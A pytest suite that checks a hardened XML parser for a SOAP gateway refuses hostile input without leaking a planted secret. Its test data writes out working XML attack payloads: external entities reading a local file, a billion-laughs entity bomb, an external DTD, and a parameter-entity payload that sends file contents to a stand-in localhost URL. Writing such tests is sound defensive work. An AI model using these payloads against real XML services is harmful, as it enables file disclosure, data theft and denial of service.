"""The hardened XML parser: what it refuses (and says why, without quoting), what it still accepts."""

from __future__ import annotations

import time
from pathlib import Path

import pytest
from lxml import etree
from zeep import exceptions as zeep_errors
from zeep.loader import parse_xml as zeep_parse_xml

from gateway.errors import HostileXml, PartnerProtocolError, PermanentError
from gateway.soap import xml
from gateway.soap.client import zeep_settings
from gateway.soap.faults import classify_zeep_error
from gateway.soap.xml import parse_xml

MARKER = "S3CRET-MARKER-7f1c"
LIMITS = {"max_bytes": 64 * 1024, "max_depth": 32}


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(f"{MARKER}\n", encoding="utf-8")
    return path


def refused(data: bytes, **limits: int) -> HostileXml:
    with pytest.raises(HostileXml) as caught:
        parse_xml(data, **{**LIMITS, **limits})
    error = caught.value
    assert MARKER not in error.reason and MARKER not in str(error) and MARKER not in repr(error)
    return error


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, 10)
    ]
    return f'<?xml version="1.0"?><!DOCTYPE lolz [{"".join(entities)}]><lolz>&lol9;</lolz>'.encode()


def nested(depth: int) -> bytes:
    return b"<a>" * depth + b"</a>" * depth


def test_an_ordinary_document_parses() -> None:
    root = parse_xml(b'<?xml version="1.0" encoding="UTF-8"?><r xmlns="urn:x"><a k="1">ab&amp;c</a></r>', **LIMITS)
    assert root.tag == "{urn:x}r"
    assert root[0].text == "ab&c" and root[0].get("k") == "1"


def test_comments_and_processing_instructions_are_dropped_so_text_reads_whole() -> None:
    # The truncation trick: code reading .text must not see only "Nguyen" of "Nguyen Van An".
    root = parse_xml(b"<r>Nguyen<!-- cut --> Van<?pi x?> An</r>", **LIMITS)
    assert root.text == "Nguyen Van An"
    assert len(root) == 0


def test_external_entity_to_a_local_file_is_refused_and_its_content_appears_nowhere(secret_file: Path) -> None:
    data = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{secret_file.as_uri()}">]><r>&x;</r>'.encode()
    error = refused(data)
    assert error.kind == xml.DOCTYPE
    assert "DOCTYPE" in error.reason


def test_billion_laughs_is_refused_quickly() -> None:
    started = time.perf_counter()
    error = refused(billion_laughs())
    assert error.kind == xml.DOCTYPE
    assert time.perf_counter() - started < 1.0


def test_an_external_dtd_is_refused() -> None:
    error = refused(b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://127.0.0.1:9/evil.dtd"><r/>')
    assert error.kind == xml.DOCTYPE


def test_parameter_entities_are_refused(secret_file: Path) -> None:
    data = (
        f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % file SYSTEM "{secret_file.as_uri()}">'
        '<!ENTITY % eval "<!ENTITY x SYSTEM \'http://127.0.0.1:9/?%file;\'>"> %eval;]><r>&x;</r>'
    ).encode()
    assert refused(data).kind == xml.DOCTYPE


def test_a_doctype_without_any_entity_is_refused_too() -> None:
    assert refused(b"<!DOCTYPE html><html/>").kind == xml.DOCTYPE


def test_a_doctype_in_utf16_is_refused_after_parsing() -> None:
    # The byte scan for "<!DOCTYPE" cannot see UTF-16; the check of the parsed document does.
    data = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>'.encode("utf-16")
    assert refused(data).kind == xml.DOCTYPE


def test_the_doctype_mark_inside_cdata_is_only_text() -> None:
    root = parse_xml(b"<r><![CDATA[<!DOCTYPE html><p>notice</p>]]></r>", **LIMITS)
    assert root.text == "<!DOCTYPE html><p>notice</p>"


def test_an_undeclared_entity_is_refused_as_entity() -> None:
    error = refused(f"<r>&{MARKER.replace('-', '')};</r>".encode())
    assert error.kind == xml.ENTITY


def test_oversize_is_refused_before_parsing() -> None:
    data = b"<r>" + b"x" * 200 + b"</r>"
    error = refused(data, max_bytes=100)
    assert error.kind == xml.OVERSIZE
    assert "207 bytes" in error.reason and "100" in error.reason
    assert parse_xml(data, max_bytes=len(data), max_depth=4).text == "x" * 200


def test_depth_is_bounded_at_the_limit() -> None:
    assert parse_xml(nested(32), **LIMITS) is not None
    error = refused(nested(33))
    assert error.kind == xml.TOO_DEEP and "32" in error.reason


def test_depth_beyond_libxml2s_own_limit_is_too_deep_too() -> None:
    assert refused(nested(300), max_depth=1000).kind == xml.TOO_DEEP


@pytest.mark.parametrize(
    "data",
    [b"", b"hello", b"<r><a></r>", b'<r a="1" a="2"/>', b"<r/><r/>", b"\x89PNG\r\n\x1a\n", f"<r>{MARKER}".encode()],
    ids=["empty", "text", "mismatch", "duplicate-attribute", "two-roots", "binary", "unclosed"],
)
def test_not_well_formed_is_refused(data: bytes) -> None:
    assert refused(data).kind == xml.NOT_WELL_FORMED


def test_a_decoded_string_is_not_accepted() -> None:
    with pytest.raises(TypeError):
        parse_xml("<r/>", **LIMITS)  # type: ignore[arg-type]


def test_hostile_xml_is_a_permanent_protocol_error() -> None:
    error = refused(b"<!DOCTYPE r><r/>")
    assert isinstance(error, PartnerProtocolError) and isinstance(error, PermanentError)


def test_the_parser_configuration_is_the_hardened_one() -> None:
    parser = xml.hardened_parser()
    assert parser is not xml.hardened_parser()  # fresh each time: lxml parsers are not thread-safe
    options = xml.PARSER_OPTIONS
    assert options["resolve_entities"] is False and options["no_network"] is True
    assert options["load_dtd"] is False and options["huge_tree"] is False and options["recover"] is False


def test_zeeps_second_parse_refuses_what_ours_refuses(secret_file: Path) -> None:
    # Should an answer ever reach zeep unchecked, its parser (with our settings) refuses the DTD too.
    data = f'<!DOCTYPE r [<!ENTITY x SYSTEM "{secret_file.as_uri()}">]><r>&x;</r>'.encode()
    with pytest.raises(zeep_errors.DTDForbidden) as caught:
        zeep_parse_xml(data, transport=None, settings=zeep_settings())
    error = classify_zeep_error(caught.value)
    assert isinstance(error, HostileXml) and error.kind == xml.DOCTYPE
    assert MARKER not in error.reason


def test_zeep_settings_forbid_everything_external() -> None:
    settings = zeep_settings()
    assert settings.forbid_dtd and settings.forbid_entities and settings.forbid_external
    assert not settings.xml_huge_tree and settings.strict


def test_parsed_elements_are_plain_lxml_elements() -> None:
    assert isinstance(parse_xml(b"<r/>", **LIMITS), etree._Element)
